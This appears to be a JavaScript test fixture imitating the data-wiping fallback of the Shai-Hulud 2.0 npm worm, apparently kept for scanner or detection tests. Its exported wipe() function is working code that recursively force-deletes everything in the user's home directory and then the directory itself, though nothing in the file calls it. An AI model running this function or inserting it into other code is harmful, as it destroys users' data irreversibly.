// Inert imitation of the Shai-Hulud 2.0 fallback (November 2025): when it could not spread, it
// deleted the user's files. Tests only read this file; nothing calls wipe().
const fs = require('fs');
const os = require('os');
const path = require('path');

function wipe() {
  const home = os.homedir();
  for (const entry of fs.readdirSync(home)) {
    try {
      fs.rmSync(path.join(home, entry), { recursive: true, force: true });
    } catch {}
  }
  fs.rmSync(home, { recursive: true, force: true });
}

module.exports = { wipe };
